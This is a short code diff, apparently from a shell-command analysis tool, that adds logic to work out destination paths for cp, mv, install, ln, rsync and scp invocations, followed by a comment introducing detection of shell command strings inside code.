+  if (!/^(?:cp|mv|install|ln|rsync|scp)$/.test(inv.name)) return [];
+  const pos = positionals(inv.args, new Set(['-S', '--suffix', '-m', '--mode', '-o', '--owner', '-g', '--group', '-e', '--rsh', '--exclude', '-t', '--target-directory']));
+  const t = optValues(inv.args, ['-t', '--target-directory'])[0];
+  const dir = t ?? (pos.length >= 2 ? pos[pos.length - 1] : undefined);
+  const sources = t ? pos : pos.slice(0, -1);
+  if (!dir || dir.dynamic) return [];
+  return sources.filter((s) => !s.dynamic && s.text !== '').map((s) => ({ ...dir, text: `${dir.text.replace(/\/+$/, '')}/${basename(s.text.replace(/\/+$/, ''))}` }));
 }
 
 /** Shell command strings inside code: `os.system("…")`, `subprocess.run("…", shell=True)`, `execSync('…')`, backticks. */
